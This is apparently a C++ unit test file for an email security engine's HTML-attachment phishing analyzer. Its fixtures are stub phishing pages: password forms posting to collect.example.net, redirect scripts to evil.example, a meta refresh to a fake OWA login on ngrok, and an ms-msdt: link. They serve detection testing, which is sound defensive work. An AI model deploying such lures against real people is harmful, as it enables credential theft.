// HTML attachments that are phishing pages, found by name, declared type or content, at any depth.
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"
#include "vigie/engine.h"

namespace vigie::analyzers {
namespace {

std::string with_attachment(const std::string& headers, const std::string& body) {
  return "From: a@example.org\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n"
         "--b\n" + headers + "\n" + body + "\n--b--\n";
}

TEST(HtmlAttachmentTest, LogInPageByNameAndDeclaredType) {
  const AnalyzerHarness harness("html_attachment");
  const auto run = harness.run(with_attachment(
      "Content-Type: text/html\nContent-Disposition: attachment; filename=Invoice.HTM\n",
      "<html><form action=x><input type=password></form></html>"));
  const Finding* f = AnalyzerHarness::find(run.findings, "HTML_ATTACHMENT_PHISHING");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->analyzer, "html_attachment");
  EXPECT_EQ(f->confidence, 1.0);
  ASSERT_EQ(f->evidence.size(), 1u);
  EXPECT_EQ(run.objects.at(f->evidence[0].object).filename, "Invoice.HTM");
  EXPECT_EQ(f->evidence[0].value, "Invoice.HTM: form password input");
  EXPECT_EQ(f->evidence[0].value_fr, "Invoice.HTM : formulaire, champ de mot de passe");
}

TEST(HtmlAttachmentTest, APageHiddenBehindAnOctetStreamIsFoundByItsContent) {
  const AnalyzerHarness harness("html_attachment");
  const auto findings = harness.analyze(with_attachment(
      "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=document\n",
      "<!doctype html><script>window.location.href='https://evil.example/'</script>"));
  const Finding* f = AnalyzerHarness::find(findings, "HTML_ATTACHMENT_PHISHING");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->confidence, 0.9);
}

TEST(HtmlAttachmentTest, AnHtmlBodyOrAHarmlessPageIsNoFinding) {
  const AnalyzerHarness harness("html_attachment");
  EXPECT_TRUE(harness.analyze("From: a@example.org\nContent-Type: text/html\n\n<form><input type=password></form>\n").empty());
  EXPECT_TRUE(harness
                  .analyze(with_attachment("Content-Type: text/html\nContent-Disposition: attachment; filename=menu.html\n",
                                           "<html><p>Lunch menu</p></html>"))
                  .empty());
}

// The cases the links analyzer used to own, unchanged in what they find.
TEST(HtmlAttachmentTest, RedirectorLogInPageAndPlainDocument) {
  const AnalyzerHarness harness("html_attachment");
  const auto octet = harness.analyze(
      "From: a@sender.example\nTo: b@org.example\nSubject: invoice\n"
      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n"
      "--b\nContent-Type: application/octet-stream; name=\"Invoice_0423.html\"\n"
      "Content-Disposition: attachment; filename=\"Invoice_0423.html\"\n\n"
      "<html><script>window.location.href='https://evil.example/'+atob('eA==');</script></html>\n--b--\n");
  const Finding* redirector = AnalyzerHarness::find(octet, "HTML_ATTACHMENT_PHISHING");
  ASSERT_NE(redirector, nullptr);
  EXPECT_EQ(redirector->evidence.at(0).value, "Invoice_0423.html: redirect script decoding hidden content");
  EXPECT_EQ(redirector->evidence.at(0).value_fr,
            "Invoice_0423.html : redirection, script qui décode un contenu caché");

  EXPECT_NE(AnalyzerHarness::find(
                harness.analyze("From: a@sender.example\nSubject: voicemail\n"
                                "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nlisten\n"
                                "--b\nContent-Type: text/html; name=\"Voicemail.htm\"\n"
                                "Content-Disposition: attachment; filename=\"Voicemail.htm\"\n\n"
                                "<html><form action=\"https://collect.example.net/p\"><input name=e>"
                                "<input type=\"password\" name=p></form></html>\n--b--\n"),
                "HTML_ATTACHMENT_PHISHING"),
            nullptr);
  EXPECT_TRUE(harness
                  .analyze("From: a@sender.example\nSubject: minutes\n"
                           "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nminutes\n"
                           "--b\nContent-Type: text/html; name=\"minutes.html\"\n"
                           "Content-Disposition: attachment; filename=\"minutes.html\"\n\n"
                           "<html><h1>Minutes</h1><p>Nothing to see.</p></html>\n--b--\n")
                  .empty());
}

// A file uuencoded in the text is an object like an attachment: an HTML page hidden that way is
// found too, with both object analyzers running as the engine runs them.
TEST(HtmlAttachmentTest, APageUuencodedInTheTextIsFound) {
  const Engine engine{Config{}};
  // "begin 644 login.html" + the uuencoding of "<form><input type=password></form>\n".
  const ScanResult r = engine.scan(std::make_shared<const std::string>(
                                       "From: a@example.org\nSubject: x\n\nopen the file\n"
                                       "begin 644 login.html\n"
                                       "C/&9O<FT^/&EN<'5T('1Y<&4]<&%S<W=O<F0^/\"]F;W)M/@H`\n`\nend\n"),
                                   Envelope{});
  const Finding* f = nullptr;
  for (const Finding& finding : r.findings) {
    if (finding.id == "HTML_ATTACHMENT_PHISHING") f = &finding;
  }
  ASSERT_NE(f, nullptr);
  const Object& page = r.objects.at(f->evidence.at(0).object);
  EXPECT_EQ(page.origin, ObjectOrigin::kUuencoded);
  EXPECT_EQ(page.filename, "login.html");
  EXPECT_EQ(r.objects.path(page.id), "part 0 > login.html");
}

}  // namespace
}  // namespace vigie::analyzers

namespace vigie::analyzers {
namespace {

// A page the parser never read (not a text part) gives its links, meta refresh included, to the
// message's links, so the links analyzer judges where it leads.
TEST(HtmlAttachmentTest, TheLinksOfAPageTheParserDidNotReadJoinTheMessage) {
  const AnalyzerHarness harness("html_attachment");
  const auto run = harness.run(with_attachment(
      "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=facture.htm\n",
      "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://owa-login.example.ngrok.io/\"></head>"
      "<body><a href=\"ms-msdt:/id PCWDiagnostic\">x</a></body></html>"));
  std::vector<std::string> urls;
  for (const Url& url : run.objects.urls()) urls.emplace_back(url.raw());
  EXPECT_EQ(urls, (std::vector<std::string>{"https://owa-login.example.ngrok.io/", "ms-msdt:/id PCWDiagnostic"}));
  // A text/html attachment is the parser's: its links are already the message's.
  const auto parsed = harness.run(with_attachment("Content-Type: text/html\nContent-Disposition: attachment; filename=a.htm\n",
                                                  "<a href=\"https://example.org/\">x</a>"));
  EXPECT_TRUE(parsed.objects.urls().empty());
}

}  // namespace
}  // namespace vigie::analyzers
